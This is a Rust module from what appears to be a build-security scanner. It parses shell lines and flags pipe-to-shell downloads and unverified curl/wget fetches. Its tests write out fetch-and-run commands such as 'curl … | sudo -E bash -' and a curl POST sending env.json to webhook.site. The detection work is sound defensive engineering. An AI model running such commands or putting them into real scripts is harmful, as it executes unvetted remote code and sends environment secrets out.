//! A small, quote-aware shell splitter: enough to see `curl … | sh`, downloads and package
//! installs in `RUN` lines and CI scripts. It is not a shell parser: no expansion, no
//! functions; subshells and `$(…)` are kept as words.

use serde::Serialize;

/// One simple command: its words with quotes removed, and its text.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct ShellCommand {
    pub text: String,
    pub words: Vec<String>,
    /// The program: first word that is not a `VAR=value` assignment, with `sudo`/`env` and a
    /// leading path removed (`/usr/bin/curl` → `curl`).
    pub program: String,
    /// The words after the program.
    pub args: Vec<String>,
}

/// A pipeline: commands joined by `|`.
pub type Pipeline = Vec<ShellCommand>;

/// Split a script into pipelines (separated by `&&`, `||`, `;`, `&` or newlines).
pub fn split(script: &str) -> Vec<Pipeline> {
    let script = script.replace("\\\r\n", " ").replace("\\\n", " ");
    let mut pipelines: Vec<Pipeline> = Vec::new();
    let mut current: Pipeline = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut text = String::new();
    let chars: Vec<char> = script.chars().collect();
    let mut i = 0;
    let mut depth = 0usize; // $( ... ) and ( ... ) nesting kept inside one word
    let flush_word = |word: &mut String, in_word: &mut bool, words: &mut Vec<String>| {
        if *in_word {
            words.push(std::mem::take(word));
            *in_word = false;
        }
    };
    let finish_cmd = |words: &mut Vec<String>, text: &mut String, current: &mut Pipeline| {
        let t = text.trim().to_owned();
        text.clear();
        if words.is_empty() {
            return;
        }
        let ws = std::mem::take(words);
        current.push(make_command(t, ws));
    };
    while i < chars.len() {
        let c = chars[i];
        if depth > 0 {
            word.push(c);
            text.push(c);
            if c == '(' {
                depth += 1;
            } else if c == ')' {
                depth -= 1;
            }
            i += 1;
            continue;
        }
        match c {
            '\'' => {
                in_word = true;
                text.push(c);
                i += 1;
                while i < chars.len() && chars[i] != '\'' {
                    word.push(chars[i]);
                    text.push(chars[i]);
                    i += 1;
                }
                text.push('\'');
                i += 1;
            }
            '"' => {
                in_word = true;
                text.push(c);
                i += 1;
                while i < chars.len() && chars[i] != '"' {
                    if chars[i] == '\\' && i + 1 < chars.len() {
                        text.push(chars[i]);
                        i += 1;
                    }
                    word.push(chars[i]);
                    text.push(chars[i]);
                    i += 1;
                }
                text.push('"');
                i += 1;
            }
            '\\' if i + 1 < chars.len() => {
                in_word = true;
                word.push(chars[i + 1]);
                text.push(c);
                text.push(chars[i + 1]);
                i += 2;
            }
            '$' | '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                // `$(…)` and the process substitutions `<(…)`, `>(…)` stay one word.
                in_word = true;
                word.push(c);
                word.push('(');
                text.push(c);
                text.push('(');
                depth = 1;
                i += 2;
            }
            '#' if !in_word => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
            }
            ' ' | '\t' => {
                flush_word(&mut word, &mut in_word, &mut words);
                text.push(c);
                i += 1;
            }
            '|' => {
                flush_word(&mut word, &mut in_word, &mut words);
                if chars.get(i + 1) == Some(&'|') {
                    finish_cmd(&mut words, &mut text, &mut current);
                    if !current.is_empty() {
                        pipelines.push(std::mem::take(&mut current));
                    }
                    i += 2;
                } else {
                    finish_cmd(&mut words, &mut text, &mut current);
                    i += if chars.get(i + 1) == Some(&'&') { 2 } else { 1 };
                }
            }
            '&' if chars.get(i + 1) == Some(&'&') => {
                flush_word(&mut word, &mut in_word, &mut words);
                finish_cmd(&mut words, &mut text, &mut current);
                if !current.is_empty() {
                    pipelines.push(std::mem::take(&mut current));
                }
                i += 2;
            }
            '&' if chars.get(i + 1) == Some(&'>') || (i > 0 && chars[i - 1] == '>') => {
                in_word = true;
                word.push(c);
                text.push(c);
                i += 1;
            }
            ';' | '\n' | '&' => {
                flush_word(&mut word, &mut in_word, &mut words);
                finish_cmd(&mut words, &mut text, &mut current);
                if !current.is_empty() {
                    pipelines.push(std::mem::take(&mut current));
                }
                i += 1;
            }
            _ => {
                in_word = true;
                word.push(c);
                text.push(c);
                i += 1;
            }
        }
    }
    flush_word(&mut word, &mut in_word, &mut words);
    finish_cmd(&mut words, &mut text, &mut current);
    if !current.is_empty() {
        pipelines.push(current);
    }
    pipelines
}

fn make_command(text: String, words: Vec<String>) -> ShellCommand {
    let mut idx = 0;
    let mut after_sudo = false;
    while idx < words.len() {
        let w = &words[idx];
        // `sudo -E`, `sudo -u user`: options of sudo, not the program.
        if after_sudo && w.starts_with('-') {
            idx += if matches!(
                w.as_str(),
                "-u" | "-g" | "-U" | "-C" | "-h" | "-p" | "-r" | "-t"
            ) {
                2
            } else {
                1
            };
            continue;
        }
        after_sudo = w == "sudo";
        let is_assign = w.contains('=')
            && !w.starts_with('-')
            && w.split('=').next().is_some_and(|n| {
                !n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            });
        if is_assign
            || w == "sudo"
            || w == "env"
            || w == "exec"
            || w == "command"
            || w == "then"
            || w == "do"
            || w == "{"
            || w == "("
        {
            idx += 1;
            continue;
        }
        break;
    }
    let program = words
        .get(idx)
        .map(|p| {
            p.trim_start_matches('(')
                .rsplit('/')
                .next()
                .unwrap_or(p)
                .to_owned()
        })
        .unwrap_or_default();
    let args = words
        .get(idx + 1..)
        .map(<[String]>::to_vec)
        .unwrap_or_default();
    ShellCommand {
        text,
        words,
        program,
        args,
    }
}

/// Programs that fetch a URL.
pub const DOWNLOADERS: &[&str] = &["curl", "wget"];
/// Shells that run a script read from standard input.
pub const SHELLS: &[&str] = &["sh", "bash", "zsh", "ash", "dash", "ksh", "fish"];
/// Other interpreters that run a program read from standard input (`python3 -`).
pub const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "node", "php", "pwsh",
];

/// A remote download run as code: the one matcher behind the Dockerfile, GitLab CI and GitHub
/// Actions pipe-to-shell rules (`input…pipe_to_shell`).
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct PipeToShell {
    /// `curl` or `wget`.
    pub downloader: String,
    /// The shell or interpreter that runs it (`sh`, `python3`, `source`).
    pub interpreter: String,
    /// `pipe` (`curl … | sh`), `command-substitution` (`sh -c "$(curl …)"`, `eval "$(curl …)"`)
    /// or `process-substitution` (`bash <(curl …)`).
    pub form: &'static str,
    /// What happens, for messages: `pipes a curl download into sh`.
    pub text: String,
}

impl PipeToShell {
    fn new(downloader: &str, interpreter: &str, form: &'static str) -> Self {
        let text = match form {
            "pipe" => format!("pipes a {downloader} download into {interpreter}"),
            "process-substitution" => {
                format!("runs a {downloader} download with {interpreter} <({downloader} …)")
            }
            _ => format!("runs a {downloader} download with {interpreter} \"$({downloader} …)\""),
        };
        Self {
            downloader: downloader.to_owned(),
            interpreter: interpreter.to_owned(),
            form,
            text,
        }
    }
}

/// Whether `cmd` downloads a URL to standard output: any `curl` (it writes to stdout unless
/// told otherwise), `wget` only with `-O-`, `-qO-`, `-O -` or `--output-document=-`.
fn downloads_to_stdout(cmd: &ShellCommand) -> bool {
    match cmd.program.as_str() {
        "curl" => !cmd
            .args
            .iter()
            .any(|a| matches!(a.as_str(), "-o" | "--output" | "-O" | "--remote-name")),
        "wget" => cmd.args.iter().enumerate().any(|(i, a)| {
            a == "--output-document=-"
                || (a.starts_with('-') && !a.starts_with("--") && a.ends_with("O-"))
                || ((a == "-O"
                    || a == "--output-document"
                    || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('O')))
                    && cmd.args.get(i + 1).is_some_and(|n| n == "-"))
        }),
        _ => false,
    }
}

/// Whether the interpreter `cmd` reads its program from standard input (no `-c`, no script
/// file before `-s`, `-` or `--`).
fn reads_stdin(cmd: &ShellCommand) -> bool {
    for a in &cmd.args {
        match a.as_str() {
            "-" | "-s" | "--" => return true,
            "-c" | "-m" | "-e" | "-E" | "--command" => return false,
            a if a.starts_with('-') => {}
            _ => return false,
        }
    }
    true
}

fn is_interpreter(program: &str) -> bool {
    SHELLS.contains(&program) || INTERPRETERS.contains(&program)
}

/// The downloader of a `$(…)`, `<(…)` or backquoted word, when it downloads to stdout.
fn substituted_download(word: &str) -> Option<String> {
    let inner = word
        .strip_prefix("$(")
        .or_else(|| word.strip_prefix("<("))
        .map(|w| w.strip_suffix(')').unwrap_or(w))
        .or_else(|| {
            let start = word.find('`')?;
            let rest = &word[start + 1..];
            Some(&rest[..rest.find('`').unwrap_or(rest.len())])
        })?;
    split(inner)
        .iter()
        .flatten()
        .find(|c| downloads_to_stdout(c))
        .map(|c| c.program.clone())
}

/// Every place in `script` where a download is run as code, in the usual forms: `curl … | sh`,
/// `| sudo -E bash -`, `| python3 -`, `wget -qO- … | sh`, `sh -c "$(curl …)"`,
/// `eval "$(curl …)"`, `bash <(curl …)`, `source <(curl …)`.
pub fn pipe_to_shell(script: &str) -> Vec<PipeToShell> {
    let mut found = Vec::new();
    for pipeline in split(script) {
        if let Some(i) = pipeline.iter().position(downloads_to_stdout)
            && let Some(sh) = pipeline[i + 1..]
                .iter()
                .find(|c| is_interpreter(&c.program) && reads_stdin(c))
        {
            found.push(PipeToShell::new(&pipeline[i].program, &sh.program, "pipe"));
        }
        for cmd in &pipeline {
            let p = cmd.program.as_str();
            let runs_args = is_interpreter(p) || matches!(p, "eval" | "source" | ".");
            if !runs_args {
                continue;
            }
            for a in &cmd.args {
                if let Some(dl) = substituted_download(a) {
                    let form = if a.starts_with("<(") {
                        "process-substitution"
                    } else {
                        "command-substitution"
                    };
                    found.push(PipeToShell::new(&dl, p, form));
                }
            }
        }
    }
    found
}

/// Programs that check a download's checksum or signature (the `dockerfile-download-no-checksum`
/// rule's list, and [`downloads`]'s).
pub const VERIFIERS: &[&str] = &[
    "sha256sum",
    "sha512sum",
    "sha384sum",
    "sha1sum",
    "shasum",
    "gpg",
    "gpgv",
    "cosign",
    "minisign",
    "signify",
    "b2sum",
    "md5sum",
    "rpm",
    "openssl",
    "slsa-verifier",
];

/// A URL fetched by `curl` or `wget` in a script and kept (not run as code: [`pipe_to_shell`]
/// covers those).
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Download {
    /// `curl` or `wget`.
    pub downloader: String,
    /// The `http(s)://` or `ftp://` URL as written (quotes removed).
    pub url: String,
    /// Whether a checksum or signature check ([`VERIFIERS`]) runs after it in the same script.
    /// Only what runs after counts: a `gpg --verify` of one file earlier in a `RUN` does not
    /// verify the downloads that follow it.
    pub verified: bool,
}

/// Whether `cmd` sends data rather than fetching a file: `curl -d/--data*/-F/--form/-T/
/// --upload-file/--json` or `-X POST|PUT|PATCH|DELETE`, `wget --post-data/--post-file/
/// --method=…`.
fn uploads(cmd: &ShellCommand) -> bool {
    cmd.args.iter().enumerate().any(|(i, a)| {
        let a = a.as_str();
        matches!(
            a,
            "-d" | "-F" | "-T" | "--form" | "--upload-file" | "--json"
        ) || a.starts_with("--data")
            || a.starts_with("--post-")
            || a.starts_with("--method")
            || (a == "-X" || a == "--request")
                && cmd.args.get(i + 1).is_some_and(|m| {
                    matches!(
                        m.to_ascii_uppercase().as_str(),
                        "POST" | "PUT" | "PATCH" | "DELETE"
                    )
                })
    })
}

/// Whether `script` runs a checksum or signature check ([`VERIFIERS`]) anywhere.
pub fn verifies(script: &str) -> bool {
    split(script)
        .iter()
        .flatten()
        .any(|c| VERIFIERS.contains(&c.program.as_str()))
}

/// The `curl`/`wget` downloads of URLs in `script`, in order: the one matcher `vouch pin`
/// records downloads with. Downloads piped or substituted into a shell are left out (the
/// pipe-to-shell rules report those, once).
pub fn downloads(script: &str) -> Vec<Download> {
    let commands: Vec<(usize, ShellCommand)> = split(script)
        .into_iter()
        .enumerate()
        .flat_map(|(i, p)| {
            let piped = p
                .iter()
                .position(downloads_to_stdout)
                .is_some_and(|d| p[d + 1..].iter().any(|c| is_interpreter(&c.program)));
            p.into_iter().filter(move |_| !piped).map(move |c| (i, c))
        })
        .collect();
    let mut found = Vec::new();
    for (n, (_, cmd)) in commands.iter().enumerate() {
        if !DOWNLOADERS.contains(&cmd.program.as_str()) || uploads(cmd) {
            continue;
        }
        let verified = commands[n + 1..]
            .iter()
            .any(|(_, c)| VERIFIERS.contains(&c.program.as_str()));
        for a in &cmd.args {
            let lower = a.to_ascii_lowercase();
            if ["https://", "http://", "ftp://"]
                .iter()
                .any(|p| lower.starts_with(p))
            {
                found.push(Download {
                    downloader: cmd.program.clone(),
                    url: a.clone(),
                    verified,
                });
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splits_pipelines() {
        let p = split(
            "apt-get update && curl -fsSL 'https://x/y.sh' | sudo bash -s -- -y; echo \"a|b\"",
        );
        assert_eq!(p.len(), 3);
        assert_eq!(p[1].len(), 2);
        assert_eq!(p[1][0].program, "curl");
        assert_eq!(p[1][0].args, ["-fsSL", "https://x/y.sh"]);
        assert_eq!(p[1][1].program, "bash");
        assert_eq!(p[2][0].args, ["a|b"]);
    }

    #[test]
    fn continuation_and_subshell() {
        let p = split("FOO=1 /usr/bin/wget -O- \\\n  $(echo http://a | tr a b) | sh");
        assert_eq!(p.len(), 1);
        assert_eq!(p[0][0].program, "wget");
        assert_eq!(p[0][1].program, "sh");
    }

    fn forms(script: &str) -> Vec<(String, String, &'static str)> {
        pipe_to_shell(script)
            .into_iter()
            .map(|p| (p.downloader, p.interpreter, p.form))
            .collect()
    }

    fn one(d: &str, i: &str, f: &'static str) -> Vec<(String, String, &'static str)> {
        vec![(d.to_owned(), i.to_owned(), f)]
    }

    #[test]
    fn pipe_to_shell_in_its_usual_forms() {
        let pipe = "pipe";
        assert_eq!(
            forms("curl -fsSL https://x/i.sh | sh"),
            one("curl", "sh", pipe)
        );
        assert_eq!(
            forms("curl -sL https://x | sudo sh"),
            one("curl", "sh", pipe)
        );
        assert_eq!(
            forms("curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -"),
            one("curl", "bash", pipe)
        );
        assert_eq!(
            forms("curl -sSL https://install.python-poetry.org | python3 -"),
            one("curl", "python3", pipe)
        );
        assert_eq!(forms("wget -qO- https://x | sh"), one("wget", "sh", pipe));
        assert_eq!(
            forms("wget -O- https://x | bash"),
            one("wget", "bash", pipe)
        );
        assert_eq!(
            forms("wget -O - https://x | bash -s -- -y"),
            one("wget", "bash", pipe)
        );
        assert_eq!(
            forms("wget --output-document=- https://x | sh"),
            one("wget", "sh", pipe)
        );
        assert_eq!(
            forms(r#"sh -c "$(curl -fsSL https://raw.githubusercontent.com/x/install.sh)""#),
            one("curl", "sh", "command-substitution")
        );
        assert_eq!(
            forms(r#"eval "$(wget -qO- https://x)""#),
            one("wget", "eval", "command-substitution")
        );
        assert_eq!(
            forms("bash <(curl -s https://x/install.sh)"),
            one("curl", "bash", "process-substitution")
        );
        assert_eq!(
            forms("source <(curl -s https://x/env.sh)"),
            one("curl", "source", "process-substitution")
        );
        assert_eq!(
            pipe_to_shell("curl -s https://x | sh")[0].text,
            "pipes a curl download into sh"
        );
    }

    #[test]
    fn downloads_that_are_not_run_are_not_pipe_to_shell() {
        // wget writes to a file unless told to use stdout
        assert!(forms("wget https://x/i.sh | sh").is_empty());
        assert!(forms("curl -o i.sh https://x && sh i.sh").is_empty());
        // the interpreter runs a program of its own, not the download
        assert!(forms("curl -s https://api/x | python3 -c 'import json,sys'").is_empty());
        assert!(forms("curl -s https://api/x | jq .tag_name").is_empty());
        assert!(forms(r#"echo "$(curl -s https://x)""#).is_empty());
        assert!(forms("sh -c 'curl -s https://x'").is_empty());
    }

    #[test]
    fn downloads_and_whether_a_check_follows() {
        let d = downloads(
            "curl -fsSLo /tmp/t.tgz \"https://example.com/t.tgz\" && tar -xzf /tmp/t.tgz; wget -q https://example.com/b.bin",
        );
        let got: Vec<(&str, &str, bool)> = d
            .iter()
            .map(|d| (d.downloader.as_str(), d.url.as_str(), d.verified))
            .collect();
        assert_eq!(
            got,
            [
                ("curl", "https://example.com/t.tgz", false),
                ("wget", "https://example.com/b.bin", false)
            ]
        );
        let d = downloads(
            "curl -fsSLo t.tgz https://example.com/t.tgz && echo \"abc  t.tgz\" | sha256sum -c -",
        );
        assert!(d[0].verified);
        // A check before the download does not verify it.
        let d = downloads("sha256sum -c sums && curl -o t https://example.com/t");
        assert!(!d[0].verified);
        // Piped into a shell: the pipe-to-shell rules report it, not this matcher.
        assert!(downloads("curl -fsSL https://x/i.sh | sh").is_empty());
        assert!(downloads("curl -fsSL https://x/i.sh | sudo -E bash -").is_empty());
        // Uploads are not downloads (checkov's tests/gitlab_ci curl fixture posts the
        // environment to a webhook).
        assert!(
            downloads("curl -H \"Content-Type: application/json\" -X POST --data \"@env.json\" https://webhook.site/x")
                .is_empty()
        );
        assert!(downloads("curl -d @f https://x/y").is_empty());
        assert!(verifies("echo x | sha256sum -c -"));
        assert!(!verifies("tar -xzf t.tgz"));
    }
}
